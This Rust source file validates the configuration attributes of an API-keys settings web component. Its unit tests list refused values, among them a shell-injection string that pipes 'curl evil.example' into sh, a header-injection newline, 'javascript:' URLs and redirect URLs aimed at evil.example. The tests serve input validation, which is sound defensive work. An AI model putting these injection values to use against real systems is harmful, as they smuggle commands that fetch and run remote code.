//! Configuration of the tab: from the `<lev-api-keys>` element's attributes, with defaults that
//! work same-origin. A setting that could send requests or people somewhere unsafe is refused
//! with a [`ConfigError`] the tab shows, never replaced silently by a default.

use std::fmt;
use std::net::Ipv4Addr;

use crate::i18n::Msg;

/// Default API base: same origin (contract: "default is the same origin").
pub const DEFAULT_API_BASE: &str = "/api/external/v2";
/// Default `X-Origin-App`.
pub const DEFAULT_ORIGIN_APP: &str = "lev-settings-api-keys";
/// Default sign-in page (the local server's; Lev's web app sets its own).
pub const DEFAULT_SIGN_IN_URL: &str = "/dev/sign-in";
/// Default request timeout.
pub const DEFAULT_TIMEOUT_MS: u32 = 15_000;

/// Which colours the tab uses (`theme`).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Theme {
    /// The system's: dark when it prefers dark.
    #[default]
    Auto,
    /// Always light.
    Light,
    /// Always dark.
    Dark,
}

impl Theme {
    /// From the attribute's value; anything else is the system's.
    pub fn from_attribute(value: Option<&str>) -> Self {
        match value.map(str::to_ascii_lowercase).as_deref() {
            Some("light") => Self::Light,
            Some("dark") => Self::Dark,
            _ => Self::Auto,
        }
    }

    /// The `data-theme` of the tab's root, which the stylesheet reads.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Auto => "auto",
            Self::Light => "light",
            Self::Dark => "dark",
        }
    }
}

/// How the tab runs.
#[derive(Clone, Debug, PartialEq)]
pub struct Config {
    /// Base URL of the v2 API (`api-base`).
    pub api_base: String,
    /// `X-Origin-App` value (`origin-app`).
    pub origin_app: String,
    /// Active account slug, sent as `X-Active-Account` (`account`).
    pub account: Option<String>,
    /// Where "Sign in again" leads (`sign-in-url`).
    pub sign_in_url: String,
    /// Per-request timeout in milliseconds (`timeout-ms`).
    pub timeout_ms: u32,
    /// Standalone: the settings shell and routes (`shell="settings"`); embedded: the tab only.
    pub shell: bool,
    /// A function returning (a promise of) an access token, called before each request.
    pub token_provider: Option<js_sys::Function>,
    /// Where the account's plan can be upgraded (`upgrade-url`), linked from the ceiling
    /// notice.
    pub upgrade_url: Option<String>,
    /// Light, dark, or the system's (`theme`).
    pub theme: Theme,
}

/// A setting of the host element that the tab refuses.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConfigError {
    /// The attribute, such as `api-base`.
    pub attribute: &'static str,
    /// What it held.
    pub value: String,
    /// What it must be instead.
    pub rule: Msg,
}

impl fmt::Display for ConfigError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}=\"{}\" is refused: {}",
            self.attribute,
            self.value,
            self.rule.english()
        )
    }
}

impl std::error::Error for ConfigError {}

/// A URL as the browser's own parser reads it, resolved against the page (`new URL(value,
/// location.href)`): the tab leaves URL parsing to the browser rather than shipping a parser
/// (and its Unicode tables) in the wasm.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct UrlParts {
    /// `https:`, `http:`, `javascript:`…
    pub protocol: String,
    /// The host without its port (`[::1]` for IPv6).
    pub hostname: String,
    /// `scheme://host[:port]`.
    pub origin: String,
}

/// Whether `hostname` is this machine (where plain `http:` can't be intercepted on the way).
fn is_loopback(hostname: &str) -> bool {
    hostname.eq_ignore_ascii_case("localhost")
        || hostname == "[::1]"
        || hostname
            .parse::<Ipv4Addr>()
            .is_ok_and(|ip| ip.is_loopback())
}

/// A path of the page's own site: the rule the server follows too (`lev_rules::site_path`:
/// one `/`, no backslash, control character or white space, also once percent-decoded), and
/// what `resolve` (the browser's parser, against the page) makes of it has the page's origin.
pub fn is_site_path(
    value: &str,
    page_origin: &str,
    resolve: &impl Fn(&str) -> Option<UrlParts>,
) -> bool {
    lev_rules::site_path::is_site_path(value)
        && resolve(value).is_some_and(|url| url.origin == page_origin)
}

/// `api-base`: a same-origin path or URL, an `https:` URL, or `http:` on loopback.
fn check_api_base(
    value: &str,
    page_origin: &str,
    parse: &impl Fn(&str) -> Option<UrlParts>,
) -> Result<(), ConfigError> {
    if is_site_path(value, page_origin, parse) {
        return Ok(());
    }
    let allowed = is_absolute(value)
        && parse(value).is_some_and(|url| match url.protocol.as_str() {
            "https:" => true,
            "http:" => url.origin == page_origin || is_loopback(&url.hostname),
            _ => false,
        });
    if allowed {
        Ok(())
    } else {
        Err(ConfigError {
            attribute: "api-base",
            value: value.to_owned(),
            rule: Msg::ConfigRuleApiBase,
        })
    }
}

/// Whether `value` names its scheme (`https://…`), rather than being relative to the page.
fn is_absolute(value: &str) -> bool {
    value.split_once(':').is_some_and(|(scheme, _)| {
        !scheme.is_empty()
            && scheme
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
    })
}

/// `origin-app`: a name of letters, digits, `.`, `_` and `-`, at most 64 characters. It is sent
/// as a header and shown in a command people paste into a shell, so nothing else gets in.
fn check_origin_app(value: &str) -> Result<(), ConfigError> {
    let allowed = (1..=64).contains(&value.len())
        && value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-'));
    if allowed {
        Ok(())
    } else {
        Err(ConfigError {
            attribute: "origin-app",
            value: value.to_owned(),
            rule: Msg::ConfigRuleOriginApp,
        })
    }
}

/// A link setting (`sign-in-url`, `upgrade-url`): a same-origin path or an `https:` URL.
fn check_link(
    attribute: &'static str,
    value: &str,
    page_origin: &str,
    parse: &impl Fn(&str) -> Option<UrlParts>,
) -> Result<(), ConfigError> {
    let allowed = is_site_path(value, page_origin, parse)
        || (is_absolute(value) && parse(value).is_some_and(|u| u.protocol == "https:"));
    if allowed {
        Ok(())
    } else {
        Err(ConfigError {
            attribute,
            value: value.to_owned(),
            rule: Msg::ConfigRuleLink,
        })
    }
}

impl Config {
    /// The settings of the tab being built (provided by [`crate::App`]).
    pub fn from_context() -> Self {
        leptos::prelude::expect_context()
    }

    /// Reads the settings of a host element through `attribute` (the value of the
    /// attribute `<name>`), on a page whose origin is `page_origin` (`https://app.lev.example`),
    /// with `parse` reading URLs against the page (the browser's parser): defaults for what is
    /// missing, an error for what is refused.
    pub fn from_host_attributes(
        attribute: impl Fn(&str) -> Option<String>,
        page_origin: &str,
        parse: impl Fn(&str) -> Option<UrlParts>,
    ) -> Result<Self, ConfigError> {
        if let Some(name) = attribute("token-provider") {
            return Err(ConfigError {
                attribute: "token-provider",
                value: name,
                rule: Msg::ConfigRuleTokenProvider,
            });
        }
        let config = Self::from_attributes(attribute);
        if config.shell && !cfg!(feature = "shell") {
            return Err(ConfigError {
                attribute: "shell",
                value: "settings".to_owned(),
                rule: Msg::ConfigRuleShell,
            });
        }
        check_origin_app(&config.origin_app)?;
        check_api_base(&config.api_base, page_origin, &parse)?;
        check_link("sign-in-url", &config.sign_in_url, page_origin, &parse)?;
        if let Some(upgrade) = &config.upgrade_url {
            check_link("upgrade-url", upgrade, page_origin, &parse)?;
        }
        Ok(config)
    }

    /// Reads the settings through `attribute` (the value of the attribute `<name>`), falling back to
    /// defaults for anything missing or unreadable. Use [`Config::from_host_attributes`] for
    /// a host page's settings: this one does not check where they lead.
    pub fn from_attributes(attribute: impl Fn(&str) -> Option<String>) -> Self {
        let get = |name: &str| {
            attribute(name)
                .map(|v| v.trim().to_owned())
                .filter(|v| !v.is_empty())
        };
        Self {
            api_base: get("api-base").unwrap_or_else(|| DEFAULT_API_BASE.to_owned()),
            origin_app: get("origin-app").unwrap_or_else(|| DEFAULT_ORIGIN_APP.to_owned()),
            account: get("account"),
            sign_in_url: get("sign-in-url").unwrap_or_else(|| DEFAULT_SIGN_IN_URL.to_owned()),
            timeout_ms: get("timeout-ms")
                .and_then(|v| v.parse().ok())
                .filter(|ms| *ms >= 100)
                .unwrap_or(DEFAULT_TIMEOUT_MS),
            shell: get("shell").as_deref() == Some("settings"),
            token_provider: None,
            upgrade_url: get("upgrade-url"),
            theme: Theme::from_attribute(get("theme").as_deref()),
        }
    }
}

impl Default for Config {
    fn default() -> Self {
        Self::from_attributes(|_| None)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn defaults_and_attributes() {
        let d = Config::default();
        assert_eq!(d.api_base, "/api/external/v2");
        assert_eq!(d.timeout_ms, 15_000);
        assert!(!d.shell);
        let c = Config::from_attributes(|name| match name {
            "api-base" => Some("https://api.levcapital.com/api/external/v2".into()),
            "account" => Some(" acme-capital ".into()),
            "timeout-ms" => Some("nonsense".into()),
            "shell" => Some("settings".into()),
            "origin-app" => Some("  ".into()),
            _ => None,
        });
        assert_eq!(c.api_base, "https://api.levcapital.com/api/external/v2");
        assert_eq!(c.account.as_deref(), Some("acme-capital"));
        assert_eq!(c.timeout_ms, 15_000);
        assert_eq!(c.origin_app, DEFAULT_ORIGIN_APP);
        assert!(c.shell);
        assert_eq!(d.theme, Theme::Auto);
        for (value, theme) in [
            ("dark", Theme::Dark),
            ("LIGHT", Theme::Light),
            ("sepia", Theme::Auto),
        ] {
            let c = Config::from_attributes(|name| (name == "theme").then(|| value.to_owned()));
            assert_eq!(c.theme, theme, "{value}");
        }
    }

    /// The page the native tests' settings are read on.
    const PAGE: &str = "https://app.lev.example/settings/api-keys";

    /// Resolves `value` against [`PAGE`] with the `url` crate, a WHATWG URL parser like the
    /// browser's (the app itself asks the browser).
    fn parse(value: &str) -> Option<UrlParts> {
        let url = url::Url::parse(PAGE).ok()?.join(value).ok()?;
        Some(UrlParts {
            protocol: format!("{}:", url.scheme()),
            hostname: url.host_str().unwrap_or_default().to_owned(),
            origin: url.origin().ascii_serialization(),
        })
    }

    #[test]
    fn paths_of_this_site_follow_the_shared_table() {
        for (text, on_site) in lev_rules::site_path::CASES {
            assert_eq!(
                is_site_path(text, "https://app.lev.example", &parse),
                *on_site,
                "{text:?}"
            );
        }
    }

    fn host(attributes: &[(&str, &str)]) -> Result<Config, ConfigError> {
        let attributes: Vec<(String, String)> = attributes
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect();
        Config::from_host_attributes(
            |name| {
                attributes
                    .iter()
                    .find(|(k, _)| k == name)
                    .map(|(_, v)| v.clone())
            },
            "https://app.lev.example",
            parse,
        )
    }

    #[test]
    fn where_requests_may_go() {
        for ok in [
            "/api/external/v2",
            "https://api.levcapital.com/api/external/v2",
            "https://app.lev.example/api/external/v2",
            "http://127.0.0.1:8080/api/external/v2",
            "http://localhost:8080/api/external/v2",
            "http://[::1]:8080/api/external/v2",
            "http://127.0.0.2/api/external/v2",
        ] {
            assert!(host(&[("api-base", ok)]).is_ok(), "{ok}");
        }
        for refused in [
            "http://api.levcapital.com/api/external/v2",
            "http://evil.example/api",
            "http://localhost@evil.example/api",
            "http://127.0.0.1.evil.example/api",
            "//evil.example/api",
            "/\\evil.example/api",
            "/\t/evil.example/api",
            "/\n/evil.example/api",
            "javascript:alert(1)",
            "ftp://127.0.0.1/api",
            "api/external/v2",
        ] {
            let error = host(&[("api-base", refused)]).expect_err(refused);
            assert_eq!(error.attribute, "api-base");
            assert!(error.to_string().contains(refused), "{error}");
        }
    }

    #[test]
    fn where_sign_in_may_lead() {
        assert!(host(&[("sign-in-url", "/sign-in")]).is_ok());
        assert!(host(&[("sign-in-url", "https://id.lev.example/login")]).is_ok());
        for refused in [
            "http://id.lev.example/login",
            "javascript:alert(1)",
            "//evil.example/login",
            "/\t/evil.example/login",
            "data:text/html,hi",
        ] {
            let error = host(&[("sign-in-url", refused)]).expect_err(refused);
            assert_eq!(error.attribute, "sign-in-url");
        }
    }

    #[test]
    fn where_upgrade_may_lead() {
        let config = host(&[("upgrade-url", "https://app.lev.example/billing")]).expect("ok");
        assert_eq!(
            config.upgrade_url.as_deref(),
            Some("https://app.lev.example/billing")
        );
        let error = host(&[("upgrade-url", "javascript:alert(1)")]).expect_err("refused");
        assert_eq!(error.attribute, "upgrade-url");
    }

    #[test]
    fn the_origin_app_is_a_plain_name() {
        for ok in ["lev-settings", "Lev.Settings_2", &"a".repeat(64)] {
            assert!(host(&[("origin-app", ok)]).is_ok(), "{ok}");
        }
        for refused in [
            "x\" $(curl evil.example | sh) \"",
            "lev settings",
            "lev'settings",
            "lev;rm",
            "lev\nX-Injected: 1",
            "lëv",
            &"a".repeat(65),
        ] {
            let error = host(&[("origin-app", refused)]).expect_err(refused);
            assert_eq!(error.attribute, "origin-app");
        }
    }

    #[test]
    fn a_global_token_provider_name_is_refused() {
        let error = host(&[("token-provider", "getToken")]).expect_err("refused");
        assert_eq!(error.attribute, "token-provider");
        assert!(error.rule.english().contains("tokenProvider property"));
    }
}
